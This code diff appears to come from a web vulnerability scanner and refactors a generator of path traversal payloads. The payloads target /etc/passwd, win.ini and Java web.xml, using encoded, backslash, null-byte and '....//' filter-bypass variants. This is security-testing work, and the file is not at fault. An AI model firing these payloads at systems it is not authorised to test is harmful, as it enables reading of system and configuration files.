@@ -29,13 +29,12 @@ const DEEP = 12;
  */
 export function traversalPayloads(place: TraversalPlace): string[] {
   const { example, isWindows } = place;
-  const fileUrl = isWindows ? 'file:///c:/windows/win.ini' : `file:///${PASSWD}`;
   // What fetches an address reads files by one, and joins nothing.
-  if (/^https?:/i.test(example)) return [fileUrl, `/${up(DEEP)}${isWindows ? WIN_INI : PASSWD}`];
+  if (/^https?:/i.test(example)) return [fileUrl(isWindows), `/${up(DEEP)}${isWindows ? WIN_INI : PASSWD}`];
   const payloads = place.server === 'java' ? javaPayloads(place) : isWindows ? windowsPayloads() : unixPayloads(place);
   const folder = example.slice(0, example.lastIndexOf('/') + 1);
   // Code that demands a certain folder in front, a full path or a URL is met halfway.
-  if (/^file:/i.test(example)) payloads.unshift(fileUrl);
+  if (/^file:/i.test(example)) payloads.unshift(fileUrl(isWindows));
   else if (/^[^/].*\//.test(folder)) payloads.unshift(folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
   else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
   return [...new Set(payloads)].slice(0, PAYLOADS_MAX);
@@ -50,10 +49,14 @@ function unixPayloads({ example, knownPath }: TraversalPlace): string[] {
     `/${up(DEEP, '....//')}${PASSWD}`,
     `/${PASSWD}`,
     ...(ending === '' ? [] : [`/${up(DEEP)}${PASSWD}\u0000${ending}`]),
-    `file:///${PASSWD}`,
+    fileUrl(false),
     `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
     ...(knownPath === null ? [] : [`..${knownPath}`, `../..${knownPath}`]),
   ];
+}
+
+function fileUrl(isWindows: boolean): string {
+  return `file:///${isWindows ? `c:/${WIN_INI}` : PASSWD}`;
 }
 
 function backslashes(path: string): string {
@@ -68,7 +71,7 @@ function windowsPayloads(): string[] {
     backslashes(up(DEEP) + WIN_INI),
     `/${up(DEEP, '....//')}${WIN_INI}`,
     `%2f${up(DEEP, '%2e%2e%2f')}${WIN_INI.replace('/', '%2f')}`,
-    'file:///c:/windows/win.ini',
+    fileUrl(true),
     // A banner of ASP.NET does not rule out another system.
     `/${up(DEEP)}${PASSWD}`,
   ];
@@ -79,32 +82,26 @@ function windowsPayloads(): string[] {
  * section 4.6): the number of steps has to be right. The page's own folder tells it, where files lie beside the pages.
  */
 function javaPayloads(place: TraversalPlace): string[] {
-  const steps = stepsToContext(place);
-  const payloads = place.isWindows
-    ? [
-        `/${up(DEEP)}${WIN_INI}`,
-        `/${up(steps)}${WEB_XML}`,
-        // Filters that know `../` alone leave the other separator.
-        backslashes(`/${up(DEEP)}${WIN_INI}`),
-        backslashes(`/${up(steps)}${WEB_XML}`),
-        `/${up(DEEP, '....//')}${WIN_INI}`,
-        `/${up(steps, '....//')}${WEB_XML}`,
-        'file:///c:/windows/win.ini',
-        `/${WEB_XML}`,
-        backslashes(`c:/${WIN_INI}`),
-        `/${up(1)}${WEB_XML}`,
-      ]
-    : [
-        `/${up(DEEP)}${PASSWD}`,
-        `/${up(steps)}${WEB_XML}`,
-        `/${up(DEEP, '....//')}${PASSWD}`,
-        `/${up(steps, '....//')}${WEB_XML}`,
-        `file:///${PASSWD}`,
-        `/${WEB_XML}`,
-        `/${PASSWD}`,
-        `/${up(1)}${WEB_XML}`,
-        `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
-      ];
+  const { isWindows, example } = place;
+  const inside = `/${up(stepsToContext(place))}${WEB_XML}`;
+  const outside = isWindows ? WIN_INI : PASSWD;
+  const direct = [`/${WEB_XML}`, isWindows ? backslashes(`c:/${outside}`) : `/${outside}`];
+  const payloads = [
+    // Whether the program opens a file or a resource of its application: files beside the pages lead to this one either way.
+    inside,
+    `/${up(DEEP)}${outside}`,
+    // Without a value of the site nothing tells where the path begins.
+    ...(example === '' ? [`/${WEB_XML}`, fileUrl(isWindows)] : []),
+    // Filters that know `../` alone leave the other separator, which Windows takes everywhere and older containers for resources.
+    backslashes(isPathInApplication(place) ? `/${WEB_XML}` : inside),
+    inside.replaceAll('../', '....//'),
+    // Where the application is known the steps are right, and what leads into it shows all that this one would.
+    ...(place.contextPath === null ? [`/${up(DEEP, '....//')}${outside}`] : []),
+    ...direct,
+    fileUrl(isWindows),
+    `/${up(1)}${WEB_XML}`,
+    isWindows ? backslashes(`/${up(DEEP)}${outside}`) : `%2f${up(DEEP, '%2e%2e%2f')}${outside.replace('/', '%2f')}`,
+  ];
   if (!isPathInApplication(place)) return payloads;
   return [place.example.startsWith('\\') ? backslashes(`/${WEB_XML}`) : `/${WEB_XML}`, ...payloads];
 }
